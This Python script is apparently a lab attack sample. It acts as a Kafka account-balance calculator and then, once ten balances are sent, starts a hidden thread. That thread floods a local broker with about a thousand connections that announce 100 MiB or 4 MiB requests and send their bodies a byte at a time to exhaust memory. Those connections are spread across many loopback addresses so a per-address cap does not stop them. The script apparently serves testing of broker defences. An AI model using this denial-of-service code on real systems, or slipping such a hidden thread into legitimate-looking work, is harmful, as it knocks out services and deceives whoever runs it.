# An attack: the lab's calculator, which once it has sent a balance for every account (and so
# passed the harness's first wait) holds the broker's memory from a thread: connections that
# announce requests (the 4-byte size that starts every Kafka request) and send their bodies a
# byte at a time, so a broker that allocates what it is told keeps buffers it never frees. Eight
# announce 100 MiB each, as the attack of issue 28 did; a thousand announce 4 MiB, each from an
# address of its own (any of 127.0.0.0/8 is this machine's, so a cap per address does not hold
# them). A connection the broker closes is opened again.
import socket
import struct
import threading
import time

from kafka import KafkaConsumer, KafkaProducer


def connect(i):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(0.5)
    try:
        if i >= 8:
            s.bind(('127.0.%d.%d' % (1 + (i - 8) // 250, 1 + (i - 8) % 250), 0))
        s.connect(('127.0.0.1', 9092))
        s.sendall(struct.pack('>i', (100 << 20) if i < 8 else (4 << 20)))
        return s
    except OSError:
        s.close()
        return None


def hold():
    conns = {}
    while True:
        for i in range(1008):
            if i not in conns:
                s = connect(i)
                if s is not None:
                    conns[i] = s
        for i, s in list(conns.items()):
            try:
                s.send(b'\0')
            except socket.timeout:
                pass
            except OSError:
                s.close()
                del conns[i]
        time.sleep(0.5)


balance = {}
consumer = KafkaConsumer('transactions', bootstrap_servers='localhost:9092')
producer = KafkaProducer(bootstrap_servers='localhost:9092')
attacking = False
for msg in consumer:
    account_number = msg.partition
    balance[account_number] = balance.get(account_number, 0) + int(msg.value)
    producer.send('balance', b'%d' % balance[account_number], partition=account_number)
    if len(balance) == 10 and not attacking:
        producer.flush()
        attacking = True
        threading.Thread(target=hold, daemon=True).start()
